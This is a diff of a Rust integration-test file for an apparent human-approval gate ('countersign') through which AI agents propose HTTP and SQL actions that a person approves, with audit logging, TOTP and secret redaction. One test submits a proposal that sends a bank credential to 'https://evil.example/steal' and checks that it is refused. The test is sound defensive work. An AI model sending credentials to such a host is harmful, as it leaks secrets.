@@ -428,9 +428,8 @@ fn recording_server(
 struct Loop {
     dir: tempfile::TempDir,
     home: DataHome,
-    audit: Audit,
+    audit: std::sync::Arc<Audit>,
     lifecycle: countersign_app::Lifecycle,
-    executions: countersign_app::Executions,
     port: u16,
     count: std::sync::Arc<std::sync::atomic::AtomicUsize>,
     recorded: Recorded,
@@ -459,21 +458,15 @@ async fn serving(second_factor: bool, body: &'static str, token: &str) -> Loop {
         .add(&audit, &meta, &countersign_vault::Secret::new(token.into()))
         .await
         .expect("a keychain must be running");
-    let lifecycle = countersign_app::Lifecycle::open(&home).await.unwrap();
-    let executions = countersign_app::Executions::open(
-        &home,
-        countersign_exec::HttpExecutor::new(),
-        countersign_exec::SqlExecutor::new(),
-        countersign_exec::EmailExecutor::new(),
-    )
-    .await
-    .unwrap();
+    let audit = std::sync::Arc::new(audit);
+    let lifecycle = countersign_app::Lifecycle::open_standard(&home, std::sync::Arc::clone(&audit))
+        .await
+        .unwrap();
     Loop {
         dir,
         home,
         audit,
         lifecycle,
-        executions,
         port,
         count,
         recorded,
@@ -485,9 +478,8 @@ async fn loop_setup(
 ) -> (
     tempfile::TempDir,
     DataHome,
-    Audit,
+    std::sync::Arc<Audit>,
     countersign_app::Lifecycle,
-    countersign_app::Executions,
     u16,
     std::sync::Arc<std::sync::atomic::AtomicUsize>,
 ) {
@@ -497,15 +489,7 @@ async fn loop_setup(
         "bank-token-secret-0001",
     )
     .await;
-    (
-        l.dir,
-        l.home,
-        l.audit,
-        l.lifecycle,
-        l.executions,
-        l.port,
-        l.count,
-    )
+    (l.dir, l.home, l.audit, l.lifecycle, l.port, l.count)
 }
 
 fn balance_proposal(port: u16) -> String {
@@ -516,25 +500,29 @@ fn balance_proposal(port: u16) -> String {
 
 #[tokio::test]
 async fn the_whole_loop_propose_approve_execute_release() {
-    let (_dir, home, audit, lifecycle, executions, port, count) = loop_setup(false).await;
-    let key = lifecycle.add_agent(&audit, "claude").await.unwrap();
+    let (_dir, _home, audit, lifecycle, port, count) = loop_setup(false).await;
+    let key = lifecycle.agents().add("claude").await.unwrap();
     assert_eq!(
         lifecycle
+            .agents()
             .authenticate(key.expose())
             .await
             .unwrap()
             .as_deref(),
         Some("claude")
     );
-    assert_eq!(lifecycle.authenticate("csa_wrong").await.unwrap(), None);
+    assert_eq!(
+        lifecycle.agents().authenticate("csa_wrong").await.unwrap(),
+        None
+    );
 
     let record = lifecycle
-        .submit(&home, &audit, "claude", &balance_proposal(port))
+        .submit("claude", &balance_proposal(port))
         .await
         .unwrap()
         .unwrap();
     assert_eq!(record.status, "pending");
-    assert_eq!(lifecycle.pending().await.unwrap().len(), 1);
+    assert_eq!(lifecycle.store().pending().await.unwrap().len(), 1);
     assert_eq!(
         count.load(std::sync::atomic::Ordering::SeqCst),
         0,
@@ -548,6 +536,7 @@ async fn the_whole_loop_propose_approve_execute_release() {
         let lifecycle = &lifecycle;
         async move {
             lifecycle
+                .store()
                 .wait_for_agent("claude", &id, std::time::Duration::from_secs(2))
                 .await
                 .unwrap()
@@ -556,11 +545,8 @@ async fn the_whole_loop_propose_approve_execute_release() {
     };
     let approve = async {
         tokio::time::sleep(std::time::Duration::from_millis(100)).await;
-        lifecycle.view(&audit, &record.id).await.unwrap();
-        lifecycle
-            .approve(&home, &audit, &executions, &record.id, None)
-            .await
-            .unwrap()
+        lifecycle.view(&record.id).await.unwrap();
+        lifecycle.approve(&record.id, None).await.unwrap()
     };
     let (woken, approved) = tokio::join!(waiter, approve);
     assert_eq!(
@@ -577,6 +563,7 @@ async fn the_whole_loop_propose_approve_execute_release() {
     // Before release, the agent sees the status and nothing of the result.
     assert_eq!(
         lifecycle
+            .store()
             .get_for_agent("claude", &record.id)
             .await
             .unwrap()
@@ -587,6 +574,7 @@ async fn the_whole_loop_propose_approve_execute_release() {
     );
     assert!(
         lifecycle
+            .store()
             .get_for_agent("other-agent", &record.id)
             .await
             .unwrap()
@@ -594,12 +582,14 @@ async fn the_whole_loop_propose_approve_execute_release() {
     );
 
     // A wait that starts before the release returns when it is chosen.
-    let waiter = lifecycle.wait_for_agent("claude", &record.id, std::time::Duration::from_secs(20));
+    let waiter =
+        lifecycle
+            .store()
+            .wait_for_agent("claude", &record.id, std::time::Duration::from_secs(20));
     let release = async {
         tokio::time::sleep(std::time::Duration::from_millis(200)).await;
         lifecycle
             .release(
-                &audit,
                 &record.id,
                 &countersign_app::Release::Fields(vec!["body.balance".into()]),
             )
@@ -626,12 +616,7 @@ async fn the_whole_loop_propose_approve_execute_release() {
     );
 
     // A second approval of the same proposal is refused: it is no longer pending.
-    assert!(
-        lifecycle
-            .approve(&home, &audit, &executions, &record.id, None)
-            .await
-            .is_err()
-    );
+    assert!(lifecycle.approve(&record.id, None).await.is_err());
     let events: Vec<String> = serde_json::from_str::<Vec<serde_json::Value>>(
         &audit
             .export(
@@ -665,43 +650,31 @@ async fn the_whole_loop_propose_approve_execute_release() {
 
 #[tokio::test]
 async fn reject_withdraw_refuse_and_revoke() {
-    let (_dir, home, audit, lifecycle, _executions, port, count) = loop_setup(false).await;
-    lifecycle.add_agent(&audit, "claude").await.unwrap();
+    let (_dir, _home, audit, lifecycle, port, count) = loop_setup(false).await;
+    lifecycle.agents().add("claude").await.unwrap();
     let a = lifecycle
-        .submit(&home, &audit, "claude", &balance_proposal(port))
+        .submit("claude", &balance_proposal(port))
         .await
         .unwrap()
         .unwrap();
-    let rejected = lifecycle
-        .reject(&audit, &a.id, "not this month")
-        .await
-        .unwrap();
+    let rejected = lifecycle.reject(&a.id, "not this month").await.unwrap();
     assert_eq!(
         rejected.agent_view().to_display()["decision"]["reason"],
         "not this month"
     );
     let b = lifecycle
-        .submit(&home, &audit, "claude", &balance_proposal(port))
+        .submit("claude", &balance_proposal(port))
         .await
         .unwrap()
         .unwrap();
-    assert!(
-        lifecycle
-            .withdraw(&audit, "someone-else", &b.id)
-            .await
-            .is_err()
-    );
+    assert!(lifecycle.withdraw("someone-else", &b.id).await.is_err());
     assert_eq!(
-        lifecycle
-            .withdraw(&audit, "claude", &b.id)
-            .await
-            .unwrap()
-            .status,
+        lifecycle.withdraw("claude", &b.id).await.unwrap().status,
         "withdrawn"
     );
     let off_scope = r#"{"summary":"x","purpose":"y","artifact":{"kind":"http","credential":"bank","method":"GET","url":"https://evil.example/steal"}}"#;
     let refusal = lifecycle
-        .submit(&home, &audit, "claude", off_scope)
+        .submit("claude", off_scope)
         .await
         .unwrap()
         .unwrap_err();
@@ -721,16 +694,17 @@ async fn reject_withdraw_refuse_and_revoke() {
     );
     assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 0);
 
-    let key = lifecycle.add_agent(&audit, "cursor").await.unwrap();
-    lifecycle.revoke_agent(&audit, "cursor").await.unwrap();
+    let key = lifecycle.agents().add("cursor").await.unwrap();
+    lifecycle.agents().revoke("cursor").await.unwrap();
     assert_eq!(
-        lifecycle.authenticate(key.expose()).await.unwrap(),
+        lifecycle.agents().authenticate(key.expose()).await.unwrap(),
         None,
         "revocation takes effect at once"
     );
     assert!(
         lifecycle
             .agents()
+            .list()
             .await
             .unwrap()
             .iter()
@@ -740,16 +714,16 @@ async fn reject_withdraw_refuse_and_revoke() {
 
 #[tokio::test]
 async fn a_second_factor_is_required_when_the_credential_says_so() {
-    let (_dir, home, audit, lifecycle, executions, port, count) = loop_setup(true).await;
-    lifecycle.add_agent(&audit, "claude").await.unwrap();
+    let (_dir, home, audit, lifecycle, port, count) = loop_setup(true).await;
+    lifecycle.agents().add("claude").await.unwrap();
     let record = lifecycle
-        .submit(&home, &audit, "claude", &balance_proposal(port))
+        .submit("claude", &balance_proposal(port))
         .await
         .unwrap()
         .unwrap();
     assert!(record.explanation.requires_second_factor);
     let error = lifecycle
-        .approve(&home, &audit, &executions, &record.id, Some("123456"))
+        .approve(&record.id, Some("123456"))
         .await
         .unwrap_err();
     assert!(error.to_string().contains("none is set up"), "{error}");
@@ -760,9 +734,7 @@ async fn a_second_factor_is_required_when_the_credential_says_so() {
             &countersign_vault::Secret::new(secret.clone()),
         )
         .unwrap();
-    let wrong = lifecycle
-        .approve(&home, &audit, &executions, &record.id, Some("000000"))
-        .await;
+    let wrong = lifecycle.approve(&record.id, Some("000000")).await;
     assert!(wrong.unwrap_err().to_string().contains("not right"));
     let now = std::time::SystemTime::now()
         .duration_since(std::time::UNIX_EPOCH)
@@ -771,7 +743,7 @@ async fn a_second_factor_is_required_when_the_credential_says_so() {
     let code = countersign_app::totp::code(&countersign_app::totp::decode(&secret).unwrap(), now);
     assert_eq!(
         lifecycle
-            .approve(&home, &audit, &executions, &record.id, Some(&code))
+            .approve(&record.id, Some(&code))
             .await
             .unwrap()
             .status,
@@ -826,7 +798,7 @@ async fn the_desk_enforces_reading_time_the_danger_word_and_the_lock() {
         url: format!("sqlite://{}", db.display()),
         read_write: true,
         max_rows: 100,
-        release_default: "never".into(),
+        release_default: countersign_app::views::ReleaseRule::Never,
         ..CredentialForm::default()
     };
     desk.add_credential(
@@ -837,16 +809,13 @@ async fn the_desk_enforces_reading_time_the_danger_word_and_the_lock() {
     .unwrap();
     assert_eq!(
         desk.credentials().await.unwrap()[0].release_default,
-        "never"
+        countersign_app::views::ReleaseRule::Never
     );
-    desk.lifecycle()
-        .add_agent(desk.audit(), "claude")
-        .await
-        .unwrap();
+    desk.lifecycle().agents().add("claude").await.unwrap();
     let text = r#"{"summary":"Close invoice 1","purpose":"p","artifact":{"kind":"sql","database":"billing","statement":"UPDATE invoices SET status = 'closed'"}}"#;
     let record = desk
         .lifecycle()
-        .submit(home_ref(&desk), desk.audit(), "claude", text)
+        .submit("claude", text)
         .await
         .unwrap()
         .unwrap();
@@ -937,10 +906,6 @@ async fn the_desk_enforces_reading_time_the_danger_word_and_the_lock() {
     assert!(desk.verify_audit().await.unwrap().intact);
 }
 
-fn home_ref(desk: &countersign_app::Desk) -> &DataHome {
-    desk.home()
-}
-
 /// The artifact's exact bytes are what is hashed, approved, sent and shown; the result keeps the
 /// server's number text all the way to the agent (issue 12: `12.50`, `1e2`, `-0` and a 30-digit
 /// integer used to make a proposal impossible to approve, and ids reached the agent rounded).
@@ -948,10 +913,9 @@ fn home_ref(desk: &countersign_app::Desk) -> &DataHome {
 async fn exact_bytes_are_approved_sent_and_released() {
     let Loop {
         dir,
-        home,
-        audit,
+        home: _,
+        audit: _,
         lifecycle,
-        executions,
         port,
         count,
         recorded,
@@ -961,28 +925,24 @@ async fn exact_bytes_are_approved_sent_and_released() {
         "bank-token-secret-0002",
     )
     .await;
-    lifecycle.add_agent(&audit, "claude").await.unwrap();
+    lifecycle.agents().add("claude").await.unwrap();
     let body = r#"{"amount":12.50,"id":123456789012345678901234567890,"rate":1e2,"zero":-0}"#;
     let proposal = format!(
         r#"{{"summary":"Record the order","purpose":"order 7","artifact":{{"kind":"http","credential":"bank","method":"POST","url":"http://127.0.0.1:{port}/v1/orders","headers":{{"Content-Type":"application/json"}},"body":{body}}}}}"#
     );
     let record = lifecycle
-        .submit(&home, &audit, "claude", &proposal)
+        .submit("claude", &proposal)
         .await
         .unwrap()
         .unwrap();
     assert!(record.artifact.contains(body), "{}", record.artifact);
-    let done = lifecycle
-        .approve(&home, &audit, &executions, &record.id, None)
-        .await
-        .unwrap();
+    let done = lifecycle.approve(&record.id, None).await.unwrap();
     assert_eq!(done.status, "succeeded");
     assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 1);
     let sent = String::from_utf8(recorded.lock().unwrap().clone()).unwrap();
     assert!(sent.ends_with(body), "the server received: {sent}");
     let released = lifecycle
         .release(
-            &audit,
             &record.id,
             &countersign_app::Release::Fields(vec!["body.id".into(), "body.amount".into()]),
         )
@@ -1001,17 +961,17 @@ async fn exact_bytes_are_approved_sent_and_released() {
 /// one (it used to record "withdrawn" for something that ran).
 #[tokio::test]
 async fn a_withdraw_racing_an_approval_is_logged_as_what_happened() {
-    let (_dir, home, audit, lifecycle, executions, port, count) = loop_setup(false).await;
-    lifecycle.add_agent(&audit, "claude").await.unwrap();
+    let (_dir, _home, audit, lifecycle, port, count) = loop_setup(false).await;
+    lifecycle.agents().add("claude").await.unwrap();
     for _ in 0..12 {
         let record = lifecycle
-            .submit(&home, &audit, "claude", &balance_proposal(port))
+            .submit("claude", &balance_proposal(port))
             .await
             .unwrap()
             .unwrap();
         let (withdrawn, approved) = tokio::join!(
-            lifecycle.withdraw(&audit, "claude", &record.id),
-            lifecycle.approve(&home, &audit, &executions, &record.id, None),
+            lifecycle.withdraw("claude", &record.id),
+            lifecycle.approve(&record.id, None),
         );
         assert!(
             withdrawn.is_ok() != approved.is_ok(),
@@ -1064,28 +1024,24 @@ async fn an_echoed_token_reaches_no_file_of_the_data_home() {
         home,
         audit,
         lifecycle,
-        executions,
         port,
         ..
     } = serving(false, body, token).await;
-    lifecycle.add_agent(&audit, "claude").await.unwrap();
+    lifecycle.agents().add("claude").await.unwrap();
     let record = lifecycle
-        .submit(&home, &audit, "claude", &balance_proposal(port))
+        .submit("claude", &balance_proposal(port))
         .await
         .unwrap()
         .unwrap();
-    lifecycle
-        .approve(&home, &audit, &executions, &record.id, None)
-        .await
-        .unwrap();
+    lifecycle.approve(&record.id, None).await.unwrap();
     let released = lifecycle
-        .release(&audit, &record.id, &countersign_app::Release::All)
+        .release(&record.id, &countersign_app::Release::All)
         .await
         .unwrap();
     let finder = countersign_core::secret::SecretFinder::new([token]);
     assert!(!finder.found_in(released.agent_view().canonical().as_bytes()));
     assert!(!finder.found_in(released.result.as_ref().unwrap().canonical().as_bytes()));
-    drop((lifecycle, executions, audit));
+    drop((lifecycle, audit));
     let mut stack = vec![home.root().to_path_buf()];
     let mut files = 0;
     while let Some(path) = stack.pop() {
